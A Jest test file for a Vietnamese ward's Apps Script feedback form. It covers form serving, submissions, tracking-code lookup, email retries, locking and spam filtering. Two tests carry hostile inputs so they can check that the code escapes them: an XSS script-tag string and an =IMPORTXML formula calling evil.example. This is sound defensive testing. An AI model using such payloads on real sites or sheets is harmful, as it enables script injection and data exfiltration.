/**
 * The resident's path on the built script: page, submission, row, email, lookup.
 */
import { ADMIN, COMMITTEE, newBox, payload } from '../../sandbox/box';
import type { FakeHtmlOutput } from '../../sandbox/fakes/script';
import type { SubmitResult } from '../../src/shared/types';
import { COL, COLUMNS } from '../../src/core/records/feedback-record';

function responses(sb: ReturnType<typeof newBox>) {
  return sb.world.boxSpreadsheet()!.getSheetByName('Góp ý')!;
}

describe('doGet', () => {
  test('serves the form with the location named by ?loc, title and viewport set', () => {
    const sb = newBox();
    const out = sb.run<FakeHtmlOutput>('doGet', [{ parameter: { loc: 'KDC02' } }]).value;
    expect(out.getTitle()).toBe('Hòm thư số góp ý – Phường Hòa Bình');
    expect(out.metaTags).toContainEqual({ name: 'viewport', content: 'width=device-width, initial-scale=1' });
    const boot = JSON.parse(/<script type="application\/json" id="boot">([\s\S]*?)<\/script>/.exec(out.getContent())![1]);
    expect(boot.location).toEqual({ code: 'KDC02', name: 'Nhà văn hóa khu dân cư số 2' });
    expect(boot.unknownLocation).toBe(false);
    expect(boot.view).toBe('form');
    expect(boot.categories).toContain('Vệ sinh môi trường');
  });

  test('an unknown location still serves the form with a notice flag, and query values are never echoed raw', () => {
    const sb = newBox();
    const evil = '"><script>alert(1)</script>';
    const out = sb.run<FakeHtmlOutput>('doGet', [{ parameter: { loc: evil, track: evil } }]).value;
    const html = out.getContent();
    expect(html).not.toContain('<script>alert(1)');
    const boot = JSON.parse(/id="boot">([\s\S]*?)<\/script>/.exec(html)![1]);
    expect(boot.location).toBeNull();
    expect(boot.unknownLocation).toBe(true);
    // Not a code: the lookup opens with the text as typed (JSON-escaped in the page) so the page can say it is wrong.
    expect(boot.view).toBe('track');
    expect(boot.track).toBe(evil);
  });

  test('a mistyped ?track= still opens the lookup view, with what was typed', () => {
    const sb = newBox();
    const out = sb.run<FakeHtmlOutput>('doGet', [{ parameter: { track: 'HB-0000000' } }]).value;
    const boot = JSON.parse(/id="boot">([\s\S]*?)<\/script>/.exec(out.getContent())![1]);
    expect(boot.view).toBe('track');
    expect(boot.track).toBe('HB-0000000');
  });

  test('?track= opens the lookup view with the cleaned code', () => {
    const sb = newBox();
    const out = sb.run<FakeHtmlOutput>('doGet', [{ parameter: { track: ' hb-7k3m9qx ' } }]).value;
    const boot = JSON.parse(/id="boot">([\s\S]*?)<\/script>/.exec(out.getContent())![1]);
    expect(boot.view).toBe('track');
    expect(boot.track).toBe('HB-7K3M9QX');
  });
});

describe('submitFeedback', () => {
  test('one accepted opinion makes exactly one row, one committee email and a tracking code', () => {
    const sb = newBox();
    const p = payload({ name: 'Nguyễn Thị Hoa', phone: '0912 345 678', email: 'hoa@example.com', consent: true });
    const res = sb.run<{ ok: boolean; trackingCode: string }>('submitFeedback', [p]).value;
    expect(res.ok).toBe(true);
    expect(res.trackingCode).toMatch(/^HB-[23456789ABCDEFGHJKMNPQRSTUVWXYZ]{7}$/);
    const rows = responses(sb).getDataRange().getValues();
    expect(rows).toHaveLength(2);
    const [row] = rows.slice(1);
    expect(row[0]).toBe(res.trackingCode);
    expect(row[9]).toBe('0912345678');
    // The resident does not wait for the status write: the trigger confirms it from the submission's mark.
    expect(row[15]).toBe('chờ gửi');
    expect(row[17]).toBe('Mới');
    expect(sb.world.gmail.sent).toHaveLength(1);
    const mail = sb.world.gmail.sent[0];
    expect(mail.to).toEqual([COMMITTEE]);
    expect(mail.subject).toContain(res.trackingCode);
    expect(mail.replyTo).toBe('hoa@example.com');
    expect(mail.body).toContain('#gid=');
    sb.fireHandler('sendPendingEmails');
    expect(responses(sb).getRange(2, 16).getValue()).toBe('đã gửi');
    expect(sb.world.gmail.sent).toHaveLength(1);
  });

  test('an email sent just before a crash is confirmed from sent mail, never sent twice', () => {
    let now = Date.UTC(2026, 10, 28, 1, 0, 0);
    const sb = newBox({ now: () => now });
    sb.run('submitFeedback', [payload()]);
    sb.world.script.cache.clear(); // the submission's "mailed" mark is lost
    sb.fireHandler('sendPendingEmails');
    expect(responses(sb).getRange(2, 16).getValue()).toBe('chờ gửi'); // too young: its submission may still be sending
    now += 11 * 60_000;
    sb.fireHandler('sendPendingEmails');
    expect(sb.world.gmail.sent).toHaveLength(1);
    expect(responses(sb).getRange(2, 16).getValue()).toBe('đã gửi');
  });

  test('an opinion whose counters could not be written is left to the batch, so a lost mark never sends it twice', () => {
    let now = Date.UTC(2026, 10, 28, 1, 0, 0);
    const sb = newBox({ now: () => now });
    // The counters (what the trigger knows a submission set out to email) and then the "mailed" mark both fail.
    sb.world.faultHook = (call) => {
      if (call === 'Properties.setProperty' || call === 'Cache.putAll') throw new Error(`Service error: ${call}`);
    };
    const res = sb.run<{ ok: boolean; trackingCode: string }>('submitFeedback', [payload()]).value;
    sb.world.faultHook = null;
    expect(res.ok).toBe(true);
    now += 11 * 60_000;
    sb.fireHandler('sendPendingEmails');
    expect(sb.world.gmail.sent.filter((m) => m.subject.includes(res.trackingCode) || m.body.includes(res.trackingCode))).toHaveLength(1);
    expect(responses(sb).getRange(2, 16).getValue()).toBe('đã gửi');
    expect(sb.world.logs.some((l) => l.level === 'error' && l.message.includes('submit.counters-failed'))).toBe(true);
  });

  test('the same requestId never makes a second row', () => {
    const sb = newBox();
    const p = payload();
    const a = sb.run<{ trackingCode: string }>('submitFeedback', [p]).value;
    sb.world.script.cache.clear(); // even when the cache has forgotten it
    const b = sb.run<{ trackingCode: string }>('submitFeedback', [p]).value;
    expect(b.trackingCode).toBe(a.trackingCode);
    expect(responses(sb).getLastRow()).toBe(2);
    expect(sb.world.gmail.sent).toHaveLength(1);
  });

  test('user text that looks like a formula is stored as literal text', () => {
    const sb = newBox();
    const content = '=IMPORTXML("http://evil.example","//a") rác thải';
    const res = sb.run<{ ok: boolean }>('submitFeedback', [payload({ content, name: '+Nguyễn', address: '@ngõ 5', consent: true })]).value;
    expect(res.ok).toBe(true);
    const sheet = responses(sb);
    const formulas = sheet.getRange(2, 1, 1, 25).getFormulas()[0];
    expect(formulas.every((f) => f === '')).toBe(true);
    const values = sheet.getRange(2, 1, 1, 25).getValues()[0];
    expect(values[7]).toBe(content);
    expect(values[8]).toBe('+Nguyễn');
    expect(values[11]).toBe('@ngõ 5');
  });

  test('bad input gets Vietnamese field messages and leaves no row', () => {
    const sb = newBox();
    const res = sb.run<{ ok: boolean; errors: { field?: string; message: string }[] }>('submitFeedback', [
      payload({ content: 'ngắn', phone: '12345', name: 'An' }),
    ]).value;
    expect(res.ok).toBe(false);
    const fields = res.errors.map((e) => e.field);
    expect(fields).toEqual(expect.arrayContaining(['content', 'phone', 'consent']));
    expect(responses(sb).getLastRow()).toBe(1);
  });

  test('a filled honeypot or a 2-second submission leaves no row and is counted in the log sheet', () => {
    const sb = newBox();
    const a = sb.run<{ ok: boolean }>('submitFeedback', [payload({ website: 'http://spam.example' })]).value;
    const b = sb.run<{ ok: boolean }>('submitFeedback', [payload({ elapsedMs: 2000 })]).value;
    expect(a.ok).toBe(false);
    expect(b.ok).toBe(false);
    expect(responses(sb).getLastRow()).toBe(1);
    const log = sb.world.boxSpreadsheet()!.getSheetByName('Nhật ký')!.getDataRange().getValues();
    expect(log.map((r) => r[2]).join('\n')).toMatch(/honeypot[\s\S]*quá nhanh/);
  });

  test('non-object payloads never throw and get the "bad data, reload" message, not the bot one', () => {
    const sb = newBox();
    for (const p of [null, undefined, 42, 'x', [], [1, 2], true]) {
      const res = sb.run<SubmitResult>('submitFeedback', [p]).value;
      expect(res).toEqual({ ok: false, errors: [{ message: 'Dữ liệu gửi lên không hợp lệ. Vui lòng tải lại trang rồi thử lại.' }] });
    }
    expect(responses(sb).getLastRow()).toBe(1);
  });

  test('when Gmail fails the row is kept as "chờ gửi" and the trigger sends it later, once', () => {
    let now = Date.UTC(2026, 10, 28, 1, 0, 0);
    const sb = newBox({ now: () => now });
    sb.world.gmail.exhaust();
    const res = sb.run<{ ok: boolean; trackingCode: string }>('submitFeedback', [payload()]).value;
    expect(res.ok).toBe(true);
    expect(responses(sb).getRange(2, 16).getValue()).toBe('chờ gửi');
    expect(sb.world.gmail.sent).toHaveLength(0);
    now += 24 * 3600_000;
    sb.world.gmail.restore();
    const [run] = sb.fireHandler('sendPendingEmails');
    expect(run.value).toMatchObject({ sent: 1, pending: 0 });
    sb.fireHandler('sendPendingEmails');
    expect(sb.world.gmail.sent).toHaveLength(1);
    expect(responses(sb).getRange(2, 16).getValue()).toBe('đã gửi');
  });
});

describe('lookupFeedback', () => {
  test('returns status and public reply, never personal data or content', () => {
    const sb = newBox();
    const p = payload({ name: 'Trần Văn Bình', phone: '0987654321', email: 'binh@example.com', address: 'Số 5 ngõ 7', consent: true });
    const { trackingCode } = sb.run<{ trackingCode: string }>('submitFeedback', [p]).value;
    responses(sb).getRange(2, 22).setValue('Đã cử cán bộ kiểm tra và thu gom rác.');
    const res = sb.run('lookupFeedback', [trackingCode.toLowerCase()]).value as Record<string, unknown>;
    expect(res).toMatchObject({ found: true, trackingCode, status: 'Mới', reply: 'Đã cử cán bộ kiểm tra và thu gom rác.' });
    expect(res.receivedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+07:00$/);
    const json = JSON.stringify(res);
    for (const secret of ['Trần Văn Bình', '0987654321', 'binh@example.com', 'Số 5 ngõ 7', 'Rác thải']) {
      expect(json).not.toContain(secret);
    }
  });

  test('unknown and malformed codes are not found, with a message', () => {
    const sb = newBox();
    expect(sb.run('lookupFeedback', ['HB-2222222']).value).toMatchObject({ found: false });
    expect(sb.run('lookupFeedback', ['<script>']).value).toMatchObject({ found: false, message: expect.stringContaining('Mã') });
    expect(sb.run('lookupFeedback', [{ a: 1 }]).value).toMatchObject({ found: false });
  });
});

test('the admin who ran setup is recorded', () => {
  const sb = newBox();
  expect(sb.world.script.properties.get('OWNER_EMAIL')).toBe(ADMIN);
});

test('lookup reports the time the opinion was received, read back from the sheet', () => {
  let now = Date.UTC(2026, 10, 28, 1, 0, 0);
  const sb = newBox({ now: () => now });
  const { trackingCode } = sb.run<{ trackingCode: string }>('submitFeedback', [payload()]).value;
  now += 3 * 3600_000;
  const res = sb.run<{ receivedAt: string; updatedAt: string }>('lookupFeedback', [trackingCode]).value;
  expect(res.receivedAt).toBe('2026-11-28T08:00:00+07:00');
  expect(res.updatedAt).toBe('2026-11-28T08:00:00+07:00');
});

test('the pending-email trigger firing while a submission is about to send never makes a second email', () => {
  let now = Date.UTC(2026, 10, 28, 1, 0, 0);
  const sb = newBox({ now: () => now });
  let fired = false;
  sb.world.faultHook = (call) => {
    if (call === 'GmailApp.sendEmail' && !fired) {
      fired = true;
      sb.world.faultHook = null;
      sb.fireHandler('sendPendingEmails'); // runs in between: the row exists, "chờ gửi", not yet sent
    }
  };
  sb.run('submitFeedback', [payload()]);
  expect(fired).toBe(true);
  now += 20 * 60_000;
  sb.fireHandler('sendPendingEmails');
  expect(sb.world.gmail.sent).toHaveLength(1);
  expect(responses(sb).getRange(2, 16).getValue()).toBe('đã gửi');
});

test('a flood of bot submissions cannot fill Nhật ký: only the 1st, 10th, 100th… of an hour is written', () => {
  const sb = newBox({ now: () => Date.UTC(2026, 10, 28, 1, 30, 0) });
  for (let i = 0; i < 150; i++) sb.run('submitFeedback', [payload({ website: 'http://spam.example' })]);
  const log = sb.world
    .boxSpreadsheet()!
    .getSheetByName('Nhật ký')!
    .getDataRange()
    .getValues()
    .slice(1)
    .map((r) => String(r[2]));
  expect(log).toEqual([
    'spam: honeypot (giờ 28/11/2026 08h)',
    'spam: honeypot: 10 lần trong giờ 28/11/2026 08h',
    'spam: honeypot: 100 lần trong giờ 28/11/2026 08h',
  ]);
  expect(responses(sb).getLastRow()).toBe(1);
});

test('a /dev web-app URL is never given to residents; a configured link is', () => {
  const sb = newBox();
  const bootOf = () =>
    JSON.parse(/id="boot">([\s\S]*?)<\/script>/.exec(sb.run<FakeHtmlOutput>('doGet', [{ parameter: {} }]).value.getContent())![1]);
  sb.world.script.serviceUrl = 'https://script.google.com/macros/s/AKfycbTEST/dev';
  expect(bootOf().appUrl).toBe('');
  sb.world.script.serviceUrl = 'https://script.google.com/macros/s/AKfycbTEST/exec';
  expect(bootOf().appUrl).toBe('https://script.google.com/macros/s/AKfycbTEST/exec');
  const { setConfigValue } = jest.requireActual('../../sandbox/box') as typeof import('../../sandbox/box');
  setConfigValue(sb, 'Đường dẫn cho poster (tùy chọn)', 'https://gopy.hoabinh.example/');
  expect(bootOf().appUrl).toBe('https://gopy.hoabinh.example/');
});

describe('possible-duplicate hint', () => {
  const drain = 'Cống thoát nước đầu ngõ 5 đường Trần Phú bị tắc, nước tràn lên mặt đường mỗi khi mưa to.';
  const again = 'Cống thoát nước ở đầu ngõ 5 đường Trần Phú lại bị tắc, nước tràn lên mặt đường mỗi khi mưa.';
  const dupCell = (sb: ReturnType<typeof newBox>) => responses(sb).getRange(responses(sb).getLastRow(), COL.possibleDuplicates).getValue();

  test('a similar opinion from the same place names the first one; another place or topic does not', () => {
    const sb = newBox();
    const first = sb.run<{ trackingCode: string }>('submitFeedback', [payload({ content: drain })]).value.trackingCode;
    sb.run('submitFeedback', [payload({ content: again })]);
    expect(dupCell(sb)).toBe(first);
    sb.run('submitFeedback', [payload({ content: again, location: 'KDC02' })]);
    expect(dupCell(sb)).toBe('');
    sb.run('submitFeedback', [payload({ content: 'Xin đề nghị phường tổ chức lớp học bơi miễn phí cho trẻ em trong hè.' })]);
    expect(dupCell(sb)).toBe('');
  });

  test('after the cache forgets (6 hours), the pending trigger rebuilds the index from the newest rows, with rows staff typed', () => {
    const sb = newBox();
    const first = sb.run<{ trackingCode: string }>('submitFeedback', [payload({ content: drain })]).value.trackingCode;
    // A paper letter about the same drain, typed by staff and given a code.
    const sheet = responses(sb);
    sheet.appendRow(
      COLUMNS.map(
        (c) => ({ source: 'Thư giấy', locationCode: 'KDC01', content: again, kind: 'Phản ánh', category: 'khác' })[c.key as string] ?? '',
      ),
    );
    const typed = sb.run<{ assigned: { trackingCode: string }[] }>('assignCodesToManualRows', [], { user: ADMIN }).value.assigned[0]
      .trackingCode;
    // Seven hours later: every cache entry has expired.
    const later = Date.now() + 7 * 3600 * 1000;
    sb.world.setClock(() => later);
    // The first submission after that waits for no read of the newest rows: it begins the index as partial.
    const cold = sb.run<{ trackingCode: string }>('submitFeedback', [payload({ content: drain + ' Vẫn chưa ai xử lý.' })]);
    expect(cold.calls['Range.getValues'] ?? 0).toBe(2); // the request-id and code columns
    expect(cold.calls['Sheet.getDataRange'] ?? 0).toBe(0);
    expect(JSON.parse(sb.world.script.cache.get('recent-index')!.value)).toMatchObject({
      partial: true,
      entries: [{ code: cold.value.trackingCode }],
    });
    // The pending trigger completes it from the rows it reads anyway, keeping what the partial index gathered.
    sb.fireHandler('sendPendingEmails');
    const index = JSON.parse(sb.world.script.cache.get('recent-index')!.value) as { partial?: boolean; entries: { code: string }[] };
    expect(index.partial).toBeUndefined();
    expect(index.entries.map((e) => e.code)).toEqual([first, typed, cold.value.trackingCode]);
    sb.run('submitFeedback', [payload({ content: drain + ' Đề nghị xử lý sớm.' })]);
    expect(String(dupCell(sb)).split(', ').sort()).toEqual([first, typed, cold.value.trackingCode].sort());
  });
});

test('a tracking code two rows hold (a row copied by hand) is never announced, and Nhật ký says so once', () => {
  let now = Date.UTC(2026, 10, 28, 1, 0, 0);
  const sb = newBox({ now: () => now });
  sb.world.gmail.exhaust(); // nothing goes out at submission
  sb.run('submitFeedback', [payload()]);
  const sheet = responses(sb);
  sheet.appendRow(sheet.getRange(2, 1, 1, COLUMNS.length).getValues()[0]);
  now += 24 * 3600_000 + 60_000;
  sb.fireHandler('sendPendingEmails');
  now += 15 * 60_000;
  sb.fireHandler('sendPendingEmails');
  expect(sb.world.gmail.sent).toHaveLength(0);
  expect(sheet.getRange(2, COL.emailStatus).getValue()).toBe('chờ gửi');
  const said = sb.world
    .boxSpreadsheet()!
    .getSheetByName('Nhật ký')!
    .getDataRange()
    .getValues()
    .filter((r) => String(r[2]).includes('có ở nhiều dòng'));
  expect(said).toHaveLength(1);
});

describe('the script lock after a submission', () => {
  /**
   * Apps Script also frees a lock when the execution that holds it ends, but a submission does not lean on that: it
   * gives the lock back itself, after its last write (the email and its mark stay covered), whatever failed on the way.
   */
  function withoutReleaseAtEnd(sb: ReturnType<typeof newBox>): void {
    sb.world.script.releaseLockOf = () => {};
  }

  test('each accepted opinion gives the lock back, so the next one is not answered "busy"', () => {
    const sb = newBox();
    withoutReleaseAtEnd(sb);
    const codes = [1, 2, 3].map(() => sb.run<SubmitResult>('submitFeedback', [payload()]).value);
    expect(codes.map((r) => r.ok)).toEqual([true, true, true]);
    expect(sb.world.script.lockHolder).toBeNull();
    expect(responses(sb).getLastRow()).toBe(4);
  });

  test('the lock is given back when the email or the cache write fails after the row is written', () => {
    for (const failing of ['GmailApp.sendEmail', 'Cache.putAll']) {
      const sb = newBox();
      withoutReleaseAtEnd(sb);
      sb.world.faultHook = (call) => {
        if (call === failing) throw new Error(`Service error: ${call}`);
      };
      const first = sb.run<SubmitResult>('submitFeedback', [payload()]).value;
      sb.world.faultHook = null;
      expect(first.ok).toBe(true);
      expect(sb.world.script.lockHolder).toBeNull();
      expect(sb.run<SubmitResult>('submitFeedback', [payload()]).value.ok).toBe(true);
    }
  });

  test('a release that fails still leaves the resident the code', () => {
    const sb = newBox();
    sb.world.faultHook = (call) => {
      if (call === 'Lock.releaseLock') throw new Error('Service error: LockService');
    };
    const res = sb.run<SubmitResult>('submitFeedback', [payload()]).value;
    sb.world.faultHook = null;
    expect(res.ok).toBe(true);
    expect(responses(sb).getLastRow()).toBe(2);
    expect(sb.world.logs.some((l) => l.level === 'error' && l.message.includes('submit.unlock-failed'))).toBe(true);
  });
});
